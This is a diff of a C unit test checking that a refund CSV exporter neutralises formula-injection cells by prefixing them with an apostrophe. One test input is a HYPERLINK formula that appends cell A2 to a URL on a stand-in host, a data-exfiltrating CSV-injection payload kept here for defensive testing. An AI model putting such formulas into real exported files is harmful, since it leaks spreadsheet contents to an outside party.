@@ -45,14 +45,19 @@ static void test_special_fields_are_quoted_and_read_back(void **state)
 static void test_formula_cells_are_written_as_text(void **state)
 {
     (void)state;
+    char b[5][80];
+    const char *in[] = {"=HYPERLINK(\"https://x.example/?\"&A2,\"Open\")", "+1", "-2", "@SUM(A1)",
+                        "a=b"};
+    const char *want[] = {"'=HYPERLINK(\"https://x.example/?\"&A2,\"Open\")", "'+1", "'-2",
+                          "'@SUM(A1)", "a=b"};
+    for (int i = 0; i < 5; i++)
+        assert_string_equal(pc_refund_csv_inert(in[i], b[i], sizeof b[i]), want[i]);
+    assert_null(pc_refund_csv_inert(NULL, b[0], sizeof b[0]));
     pc_refund_csv_t c = {0};
-    const char *f[] = {
-        "R3", "=HYPERLINK(\"https://x.example/?\"&A2,\"Open\")", "+1", "-2", "@SUM(A1)", "\tx",
-        "a=b"};
-    pc_refund_csv_row(&c, f, 7);
+    const char *f[] = {"R3", pc_refund_csv_inert(in[0], b[0], sizeof b[0])};
+    pc_refund_csv_row(&c, f, 2);
     assert_string_equal(pc_refund_csv_text(&c),
-                        "R3,\"'=HYPERLINK(\"\"https://x.example/?\"\"&A2,\"\"Open\"\")\",\"'+1\","
-                        "\"'-2\",\"'@SUM(A1)\",\"'\tx\",a=b\n");
+                        "R3,\"'=HYPERLINK(\"\"https://x.example/?\"\"&A2,\"\"Open\"\")\"\n");
     pc_refund_csv_free(&c);
 }
 
